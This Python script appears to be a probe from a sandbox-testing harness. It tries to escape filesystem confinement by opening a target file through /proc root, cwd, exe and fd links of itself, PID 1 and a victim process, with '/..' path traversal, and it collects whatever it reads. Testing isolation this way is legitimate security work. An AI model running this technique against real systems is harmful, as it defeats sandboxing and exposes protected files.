"""Goes through the links of /proc that lead past all paths: open files, working directories, roots."""
# walls: root proc pid_namespace landlock
# observe: unread
# depth: yes
import os

ways = []
for number in ("self", "thread-self", "1", f"self/task/{os.getpid()}", "1/task/1", str(aim.victim)):
    ways += [f"/proc/{number}/{link}" for link in ("root", "cwd", "exe")]
    try:
        ways += [f"/proc/{number}/fd/{name}" for name in os.listdir(f"/proc/{number}/fd")]
    except OSError as error:
        tried(f"/proc/{number}/fd: {error.strerror}")
ways += ["/dev/fd/0", "/dev/stdin", "/dev/stdout"]

for way in ways:
    for rest in (aim.file, "/.." * 30 + aim.file):
        try:
            with open(way + rest, "rb") as file:
                loot(file.read(4096))
        except OSError as error:
            tried(f"{way}: {error.strerror}")
        else:
            tried(f"{way}: read")
